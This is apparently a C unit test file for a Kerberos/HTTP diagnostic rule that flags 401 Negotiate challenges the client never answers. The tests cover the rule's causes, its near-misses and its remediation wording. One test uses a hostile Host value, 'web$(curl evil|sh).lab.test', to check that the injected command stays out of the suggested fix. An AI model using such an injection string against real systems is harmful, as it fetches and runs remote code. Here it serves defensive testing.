/* check_rules_http_unanswered.c - negotiate-unanswered (rules_http_unanswered.c)
 * on fact lists: its two causes, the client that gives up, and the
 * near-misses that must stay quiet (answered, one retry only, a capture
 * that ends at once, Basic alone, a 407, a KDC failure that explains it). */
#include <check.h>
#include <stdbool.h>
#include <string.h>

#include "krb5.h"
#include "rulefix.h"
#include "testutil.h"

#define C "10.0.0.10:40000"
#define CK "10.0.0.10:40001"
#define KDC "10.0.0.2:88"
#define WEB "10.0.0.20:80"
#define WEB8081 "10.0.0.20:8081"
#define RULE "negotiate-unanswered"
#define PRINCIPAL_UNKNOWN 7 /* KDC_ERR_S_PRINCIPAL_UNKNOWN */

/* A request without credentials at frame f on conn, answered at f+1 by
 * status with the challenges a, b (NULL: none). */
static void get_401(struct kf_result *r, uint64_t f, uint32_t conn, const char *dst, const char *host,
		    int status, const char *a, const char *b)
{
	struct kf_http_rec *q = fx_http_rec(r, fx_http(r, f, KF_MSG_HTTP_REQUEST, conn, C, dst));
	q->method = "GET";
	q->uri = "/";
	q->host = host;
	q->header_bytes = 76;
	struct kf_http_rec *p = fx_http_rec(r, fx_http(r, f + 1, KF_MSG_HTTP_RESPONSE, conn, dst, C));
	p->status = status;
	p->header_bytes = 200;
	if (a)
		fx_challenges(r, p, a, b);
	fx_link(r, f, KF_MSG_HTTP_REQUEST, f + 1, KF_MSG_HTTP_RESPONSE);
}

/* The same request with credentials (scheme) at f, answered 200 at f+1. */
static void get_auth(struct kf_result *r, uint64_t f, uint32_t conn, const char *host, const char *scheme)
{
	struct kf_http_rec *q = fx_http_rec(r, fx_http(r, f, KF_MSG_HTTP_REQUEST, conn, C, WEB));
	q->method = "GET";
	q->uri = "/";
	q->host = host;
	q->auth_scheme = scheme;
	q->token_bytes = 700;
	q->header_bytes = 1000;
	fx_http_rec(r, fx_http(r, f + 1, KF_MSG_HTTP_RESPONSE, conn, WEB, C))->status = 200;
	fx_link(r, f, KF_MSG_HTTP_REQUEST, f + 1, KF_MSG_HTTP_RESPONSE);
}

/* kinit: AS-REQ/AS-REP in frames 1-2. */
static void kinit(struct kf_result *r)
{
	fx_krb(r, 1, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "alice";
	struct kf_message *rep = fx_krb(r, 2, KF_KRB_AS_REP, KDC, CK);
	rep->krb.cname = "alice";
	rep->krb.crealm = "LAB.TEST";
	rep->krb.ticket = fx_ticket(r, "krbtgt/LAB.TEST", "LAB.TEST", 18, 1);
	fx_link(r, 1, KF_KRB_AS_REQ, 2, KF_KRB_AS_REP);
}

/* Three requests to web.lab.test, each answered 401 Negotiate (frames 10-15). */
static void three_401(struct kf_result *r)
{
	get_401(r, 10, 3, WEB, "web.lab.test", 401, "Negotiate", NULL);
	get_401(r, 12, 4, WEB, "web.lab.test", 401, "Negotiate", NULL);
	get_401(r, 14, 5, WEB, "web.lab.test", 401, "Negotiate", NULL);
}

/* No TGT, curl without --negotiate (unans-no-tgt): no-kdc-traffic. */
START_TEST(t_unans_no_kdc_traffic)
{
	struct kf_result *r = fx_new();
	three_401(r);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(r->n_findings, 1);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = RULE,
								     .cause = "no-kdc-traffic",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_LIKELY,
								     .frames = "10,11,12,13,14,15",
								     .client = "10.0.0.10",
								     .server = "10.0.0.20:80",
								     .user = "" });
	ck_assert_msg(contains(f->summary, "web.lab.test:80 (10.0.0.20) answered 401 WWW-Authenticate: "
					   "Negotiate and the client asked 2 more times without credentials"),
		      "%s", f->summary);
	ck_assert(contains(f->explanation, "sent nothing to a KDC"));
	/* the fix names the client settings, in the capture's host name */
	ck_assert_msg(contains(f->remediation, "`curl --negotiate -u : http://web.lab.test/`"), "%s",
		      f->remediation);
	ck_assert(contains(f->remediation,
			   "AuthServerAllowlist (formerly AuthServerWhitelist) listing web.lab.test"));
	ck_assert(contains(f->remediation, "network.negotiate-auth.trusted-uris"));
	ck_assert(contains(f->remediation, "Automatic logon only in Intranet zone"));
	ck_assert(contains(f->remediation, "`klist`"));
	ck_assert(contains(f->remediation, "[domain_realm]"));
	fx_free(r);
}
END_TEST

/* A TGT in the capture, no ticket for HTTP/ (unans-tgt-not-offered):
 * client-did-not-offer, the AS-REP as evidence, its user the subject's. */
START_TEST(t_unans_tgt_not_offered)
{
	struct kf_result *r = fx_new();
	kinit(r);
	three_401(r);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(r->n_findings, 1);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = RULE,
								     .cause = "client-did-not-offer",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_LIKELY,
								     .frames = "2,10,11,12,13,14,15",
								     .user = "alice@LAB.TEST" });
	ck_assert(contains(f->explanation, "the KDC's reply in frame 2"));
	ck_assert(contains(f->explanation, "HTTP/web.lab.test"));
	ck_assert(!contains(f->remediation, "[domain_realm]"));
	fx_free(r);
}
END_TEST

/* WWW-Authenticate: NTLM alone on :8081 (unans-ntlm-only): no KDC needed,
 * client-did-not-offer even without KDC traffic; the port in the fix. */
START_TEST(t_unans_ntlm_only)
{
	struct kf_result *r = fx_new();
	for (uint64_t f = 10; f <= 14; f += 2)
		get_401(r, f, (uint32_t)f, WEB8081, "web.lab.test:8081", 401, "NTLM", NULL);
	fx_finish(r);
	fx_run_all(r);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = RULE,
								     .cause = "client-did-not-offer",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_LIKELY,
								     .server = "10.0.0.20:8081" });
	ck_assert(contains(f->summary, "WWW-Authenticate: NTLM and"));
	ck_assert(contains(f->explanation, "offered only NTLM"));
	ck_assert_msg(contains(f->remediation, "http://web.lab.test:8081/"), "%s", f->remediation);
	fx_free(r);
}
END_TEST

/* One 401 and nothing more: the client gave up when the capture goes on
 * 5 s or more, and nothing can be said when it ends at once. */
START_TEST(t_unans_gave_up)
{
	for (int longer = 0; longer < 2; longer++) {
		struct kf_result *r = fx_new();
		kinit(r);
		get_401(r, 10, 3, WEB, "web.lab.test", 401, "Negotiate", "NTLM");
		fx_finish(r);
		r->last_ts_us = r->messages[r->n_messages - 1].ts_us + (longer ? 6000000 : 1000000);
		fx_run_all(r);
		if (!longer) {
			ck_assert_uint_eq(fx_count(r, RULE, 0), 0);
		} else {
			const struct kf_finding *f =
				fx_expect(r, &(struct fx_want){ .rule = RULE,
								.cause = "client-did-not-offer",
								.sev = KF_SEV_WARNING,
								.conf = KF_CONF_LIKELY,
								.frames = "2,10,11" });
			ck_assert_msg(contains(f->summary, "Negotiate, NTLM and the client gave up"), "%s",
				      f->summary);
			ck_assert_msg(contains(f->explanation, "in the next 6 s of the capture"), "%s",
				      f->explanation);
		}
		fx_free(r);
	}
}
END_TEST

/* r, finished, gives no finding of the rule run alone; r is freed. */
static void assert_silent(struct kf_result *r)
{
	fx_finish(r);
	fx_run(r, RULE);
	ck_assert_uint_eq(fx_count(r, RULE, 0), 0);
	fx_free(r);
}

/* Near-misses that must stay silent. */
START_TEST(t_unans_near_misses)
{
	/* the browser's handshake: 401, then the token, three times */
	struct kf_result *r = fx_new();
	kinit(r);
	fx_tgs(r, 5, CK, KDC, "HTTP/web.lab.test", 0);
	for (uint64_t f = 10; f <= 30; f += 10) {
		get_401(r, f, (uint32_t)f, WEB, "web.lab.test", 401, "Negotiate", NULL);
		get_auth(r, f + 2, (uint32_t)f, "web.lab.test", "Negotiate");
	}
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, RULE, 0), 0);
	fx_free(r);
	/* unanswered twice, then answered within the minute */
	r = fx_new();
	three_401(r);
	get_auth(r, 20, 6, "web.lab.test", "NTLM");
	assert_silent(r);
	/* one further request only, the capture ends with it */
	r = fx_new();
	get_401(r, 10, 3, WEB, "web.lab.test", 401, "Negotiate", NULL);
	get_401(r, 12, 3, WEB, "web.lab.test", 401, "Negotiate", NULL);
	assert_silent(r);
	/* Basic alone */
	r = fx_new();
	for (uint64_t f = 10; f <= 14; f += 2)
		get_401(r, f, 3, WEB, "web.lab.test", 401, "Basic", NULL);
	assert_silent(r);
	/* a proxy's 407 is not this rule's */
	r = fx_new();
	for (uint64_t f = 10; f <= 14; f += 2)
		get_401(r, f, 3, WEB, "web.lab.test", 407, "Negotiate", NULL);
	assert_silent(r);
	/* three requests to three different sites */
	r = fx_new();
	get_401(r, 10, 3, WEB, "a.lab.test", 401, "Negotiate", NULL);
	get_401(r, 12, 4, WEB, "b.lab.test", 401, "Negotiate", NULL);
	get_401(r, 14, 5, WEB, "c.lab.test", 401, "Negotiate", NULL);
	assert_silent(r);
}
END_TEST

/* A KDC failure explains the silence: the rule leaves it to that finding
 * (principal-unknown for HTTP/web.lab.test; an AS-REQ never answered).  A
 * refused ticket for another service does not. */
START_TEST(t_unans_kdc_failure_folds)
{
	struct kf_result *r = fx_new();
	kinit(r);
	fx_tgs(r, 5, CK, KDC, "HTTP/web.lab.test", PRINCIPAL_UNKNOWN);
	three_401(r);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, RULE, 0), 0);
	ck_assert_uint_eq(fx_count(r, "principal-unknown", KF_SEV_ERROR), 1);
	fx_free(r);

	r = fx_new();
	fx_krb(r, 1, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "alice";
	three_401(r);
	assert_silent(r);

	r = fx_new();
	kinit(r);
	fx_tgs(r, 5, CK, KDC, "HTTP/other.lab.test", PRINCIPAL_UNKNOWN);
	three_401(r);
	fx_finish(r);
	fx_run(r, RULE);
	fx_expect(r, &(struct fx_want){ .rule = RULE,
					.cause = "client-did-not-offer",
					.sev = KF_SEV_WARNING,
					.conf = KF_CONF_LIKELY });
	fx_free(r);
}
END_TEST

/* AS-REQs never answered, then three unanswered 401s: kdc-unreachable's
 * finding explains them (it shares no frame with the 401s, so precedence
 * could not fold this rule's finding: the rule itself stays silent). */
START_TEST(t_unans_kdc_unreachable_only_root)
{
	struct kf_result *r = fx_new();
	fx_krb(r, 1, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "alice";
	fx_krb(r, 3, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "alice";
	fx_krb(r, 5, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "alice";
	three_401(r);
	fx_finish(r);
	r->last_ts_us = r->messages[r->n_messages - 1].ts_us + 30000000;
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, RULE, 0), 0);
	fx_free(r);
}
END_TEST

/* Names from the capture: no Host header (HTTP/1.0) words the finding with
 * the server's address; a hostile Host never reaches a command of the fix. */
START_TEST(t_unans_names)
{
	struct kf_result *r = fx_new();
	for (uint64_t fr = 10; fr <= 14; fr += 2)
		get_401(r, fr, 3, WEB, NULL, 401, "Negotiate", NULL);
	fx_finish(r);
	fx_run(r, RULE);
	const struct kf_finding *f = fx_find(r, RULE);
	ck_assert_ptr_nonnull(f);
	ck_assert_msg(contains(f->summary, "10.0.0.20:80 (10.0.0.20) answered"), "%s", f->summary);
	fx_free(r);

	r = fx_new();
	for (uint64_t fr = 10; fr <= 14; fr += 2)
		get_401(r, fr, 3, WEB, "web$(curl evil|sh).lab.test", 401, "Negotiate", NULL);
	fx_finish(r);
	fx_run(r, RULE);
	f = fx_find(r, RULE);
	ck_assert_ptr_nonnull(f);
	ck_assert_msg(contains(f->remediation, "`curl --negotiate -u : http://<host>/`"), "%s",
		      f->remediation);
	ck_assert(!contains(f->remediation, "http://web$("));
	fx_free(r);
}
END_TEST

/* The catalogue row: a warning of class OUTCOME (a root cause at least as
 * severe takes it), a 60 s window, exactly the two causes docs/rules.md lists. */
START_TEST(t_unans_rule_info)
{
	const struct kf_rule *rule = kf_rule_find(RULE);
	ck_assert_ptr_nonnull(rule);
	ck_assert_int_eq(rule->info.severity, KF_SEV_WARNING);
	ck_assert_int_eq(rule->info.cls, KF_RULE_OUTCOME);
	ck_assert_uint_eq(rule->info.window_us, 60ull * 1000000ull);
	size_t n = 0;
	for (const char *const *c = rule->info.causes; c && *c; c++)
		n++;
	ck_assert_uint_eq(n, 2);
	ck_assert(kf_rule_cause_listed(&rule->info, "no-kdc-traffic"));
	ck_assert(kf_rule_cause_listed(&rule->info, "client-did-not-offer"));
}
END_TEST

int main(void)
{
	Suite *s = suite_create("rules_http_unanswered");
	TCase *tc = tcase_create("negotiate-unanswered");
	tcase_add_test(tc, t_unans_no_kdc_traffic);
	tcase_add_test(tc, t_unans_tgt_not_offered);
	tcase_add_test(tc, t_unans_ntlm_only);
	tcase_add_test(tc, t_unans_gave_up);
	tcase_add_test(tc, t_unans_near_misses);
	tcase_add_test(tc, t_unans_kdc_failure_folds);
	tcase_add_test(tc, t_unans_kdc_unreachable_only_root);
	tcase_add_test(tc, t_unans_rule_info);
	tcase_add_test(tc, t_unans_names);
	suite_add_tcase(s, tc);
	return kf_test_run(s);
}
